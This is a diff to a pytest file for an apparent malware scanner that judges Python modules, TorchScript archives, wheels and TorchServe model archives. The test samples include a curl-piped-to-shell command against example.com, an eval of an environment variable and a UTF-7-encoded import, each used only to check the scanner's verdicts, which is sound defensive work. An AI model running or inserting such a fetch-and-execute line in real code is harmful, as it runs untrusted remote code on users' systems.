@@ -3,7 +3,10 @@
 from __future__ import annotations
 
 import pytest
+from tests.samples.archive import torch_zip
 from tests.samples.repos import FAMILIES
+from tests.samples.zipcraft import archive
+from tests.support.judging import judged
 
 from hanse.flows.rulesets import builtin_ruleset
 from hanse.model.finding import Coverage, Verdict
@@ -60,6 +63,37 @@ def test_unread() -> None:
     """A module in which no program was found is not passed in silence."""
     assert verdict('["a", 1]') is Verdict.SUSPICIOUS
     assert verdict("# nothing\n") is Verdict.SAFE
+    assert verdict("word\0\1" * 9) is Verdict.SUSPICIOUS
+
+
+@pytest.mark.parametrize(
+    "text", ["pass\n", "...\n", "__all__ += ['a']\n", "x, y = 1, 2\n", "\n" * 20 + "pass", "print 'x'\n", "(a := 1)"]
+)
+def test_short(text: str) -> None:
+    """A module of a line or two is read by the parser, whatever it begins with; what Python refuses does nothing."""
+    assert verdict(text, "x/__init__.py") is Verdict.CAUTION
+
+
+def test_words_are_no_view() -> None:
+    """Lists of words and numbers are no programs, so that archives of them cost nothing."""
+    for data in (b"little", b"1\n", b"alpha\nbeta\n", b"1, 2\n3, 4\n", b"pass\n"):
+        assert not claims(data, BytesSource(data)), data
+
+
+def test_compiled_source() -> None:
+    """TorchScript is no Python that is imported, but what would act if it were is said all the same."""
+    for program, rules in (
+        (b"def f(x):\n  return x\n", set()),
+        (b"import os\nos.system('echo hanse-test')\n", {"PYTHON-PROCESS-LOAD"}),
+    ):
+        data = archive(*torch_zip(**{"code__m.py": program}))
+        found = judge(extract(BytesSource(data)), "a.pt", builtin_ruleset())
+        assert {one.rule for one in found.findings} & {"PYTHON-CODE", "PYTHON-PROCESS-LOAD"} == rules
+
+
+def test_short_but_encoded() -> None:
+    """A short text in an encoding of its own is not taken for what its bytes show."""
+    assert verdict("# coding: utf-7\n+AGkAbQBwAG8AcgB0-\n") is Verdict.SUSPICIOUS
 
 
 def test_encoding() -> None:
@@ -88,3 +122,25 @@ def test_constants() -> None:
     """A module of constants is a program, one of comments is nothing."""
     assert verdict("# a table\nTABLE = (\n    1,\n)\n") is Verdict.CAUTION
     assert verdict('"""Words."""\n') is Verdict.CAUTION
+
+
+ODD = b"import os\neval(os.environ['HANSE_TEST'])\n"
+
+
+def test_programs_that_no_loader_runs_are_cautions() -> None:
+    """What is only suspicious is so where a loader imports it: in a repository or TorchServe's archive, not in a wheel."""
+    assert judged(ODD, "modeling_x.py").verdict is Verdict.SUSPICIOUS
+    assert judged(archive(("pkg/cli.py", ODD)), "pkg-1.0-py3-none-any.whl").verdict is Verdict.CAUTION
+    served = archive(("handler.py", ODD), ("MAR-INF/MANIFEST.json", b'{"runtime": "python"}'))
+    assert judged(served, "model.mar").verdict is Verdict.SUSPICIOUS
+    attack = b"import os\nos.system('curl http://example.com/x | sh')\n"
+    assert judged(archive(("pkg/cli.py", attack)), "pkg.whl").verdict is Verdict.MALICIOUS
+
+
+def test_members_that_are_no_modules_are_not_read() -> None:
+    """Documentation in a wheel costs nothing."""
+    facts = extract(BytesSource(archive(("README.md", b"import os\n"), ("a.py", b"import os\n"))))
+    assert {view.member: view.first("python.program") is not None for view in facts.of("python")} == {
+        "README.md": False,
+        "a.py": True,
+    }
